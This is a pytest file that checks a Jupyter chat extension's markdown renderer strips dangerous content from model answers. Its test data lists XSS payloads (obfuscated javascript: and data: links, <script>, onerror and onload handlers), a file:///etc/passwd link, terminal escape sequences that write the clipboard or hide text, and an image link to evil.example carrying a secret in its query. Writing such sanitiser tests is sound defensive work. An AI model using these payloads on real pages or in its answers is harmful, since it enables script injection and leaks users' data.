"""Markdown that a stranger wrote, on a page that is trusted."""

import html.parser
import tracemalloc

import pytest
from conftest import for_each
from hypothesis import given
from hypothesis import strategies as st
from patience import cpu_seconds

from lk_jupyter.inference.conversation import ChatReply
from lk_jupyter.magics._output.chat import ChatMarkdown, Printed
from lk_jupyter.views.markdown import LONGEST, render_markdown

#: What the drawing makes itself; anything else came from the text.
TAGS = {
    "div",
    "p",
    "a",
    "strong",
    "em",
    "s",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
}
ATTRIBUTES = {"href", "title", "target", "rel", "class", "style", "start"}

LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: data:text/html,x",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](notebook.ipynb)",
    "[x](https:/)",
    "[x](https:javascript)",
)
MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<a href='javascript:x'>y</a>",
    "<button data-commandlinker-command='x'>y</button>",
    "</div><script>",
    "`<b>`",
    "```<i>\n<b>\n```",
    "a|b\n-|-\n<b>|<i>",
    '[x](https://a.b "t\\"><script>")',
    '![<b>](https://a.b/"onerror="x)',
    "$<img src=x>$",
    "\\[<script>\\]",
)


class Found(html.parser.HTMLParser):
    """What a browser would make of HTML: tags, attributes, addresses, text."""

    def __init__(self, shown):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.text = set(), set(), [], ""
        self.feed(shown)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name in {"href", "src"}]

    def handle_data(self, data):
        self.text += data


def check(text):
    found = Found(render_markdown(text))
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    assert all(address.lower().startswith(("http://", "https://")) for address in found.addresses)
    return found


@for_each(LINKS)
def test_an_answer_leads_nowhere_but_to_the_web(text):
    assert check(text).addresses == []


@for_each(MARKUP)
def test_an_answer_brings_no_element_of_its_own(text):
    check(text)


def test_an_answer_turns_no_text_and_sets_no_clipboard_of_a_terminal(capsys):
    answer = "rm \u202egpj.x\u2066 \x1b]52;c;eA==\x07\x1b[2Jend"
    assert check(answer).text.strip() == str(ChatMarkdown(ChatReply("m", text=answer))) == "rm gpj.x end"
    Printed().end(answer)
    assert capsys.readouterr().out == "rm gpj.x end\n"


def test_an_answer_loads_no_image_which_would_report_what_it_read():
    found = check("![the plot](https://evil.example/?secret=42)")
    assert found.addresses == ["https://evil.example/?secret=42"]
    assert "img" not in found.tags
    assert found.text.strip() == "the plot"


@pytest.mark.parametrize(
    "command", ["href{javascript:x}{y}", "style{x}{y}", "require{html}", "def\\x{y}", "newcommand{\\x}{y}"]
)
def test_a_formula_of_an_answer_links_and_defines_nothing(command):
    assert "mathjax_process" not in render_markdown(f"$\\{command}$")
    assert "mathjax_process" not in render_markdown(f"$$\n\\{command}\n$$")


@pytest.mark.parametrize("formula", ["$a_b_c$", r"\(a*b*c\)", "$$x_1 < y_2$$", "$$\n+ x\n= y\n$$", "\\[\n- x\n\\]"])
def test_a_formula_reaches_the_page_as_it_stands(formula):
    assert formula in check(f"so\n\n{formula}\n\nfollows").text


def test_an_ordinary_formula_is_typeset():
    assert "mathjax_process" in render_markdown(r"$\csc x \neq \Re z \leq \left( \delta \newline \right)$")


def test_amounts_of_money_are_no_formula():
    assert "mathjax_process" not in render_markdown("It costs $5 a day, or $100 a month.")


def test_an_answer_is_drawn():
    shown = render_markdown(
        "# A\n\n- **b** and `c`\n\n```python\nprint(1)\n```\n\n|x|y|\n|-|-|\n|1|2|\n\n[z](https://a.b/c)"
    )
    for piece in ("<h1>A</h1>", "<strong>b</strong>", "<code>c</code>", 'class="language-python"', "<td>2</td>"):
        assert piece in shown
    assert '<a href="https://a.b/c" target="_blank" rel="noopener noreferrer">z</a>' in shown


PIECES = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "&",
    "&#115;",
    "javascript:",
    "data:",
    "https://a.b",
    "*",
    "_",
    "`",
    "```",
    "$",
    "$$",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "\\",
    "|",
    "|-|",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "    ",
    "#",
    "~~",
    ":",
    "[a]: ",
    '"',
    "'",
    "<script>",
    "<img src=x onerror=alert(1)>",
    "\t",
    "\0",
    "\u2028",
    "a",
    "é",
    "\ud800",
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=60).map("".join))
def test_no_markdown_breaks_out(text):
    check(text)


@pytest.mark.parametrize(
    "piece", ["[", "![", "a|", "|a|\n|-|\n", "*_*_", "![[]()", "\\[\n", "> - ", "$", "`", "&#115;"]
)
def test_no_markdown_takes_long_or_much(piece):
    text = (piece * LONGEST)[: LONGEST // 4]
    render_markdown("")
    assert cpu_seconds(lambda: render_markdown(text), limit=1.5) < 1.5  # half a second on a slow machine
    tracemalloc.start()
    render_markdown(text[: LONGEST // 40])  # watched, each piece takes many times as long
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 1_250_000
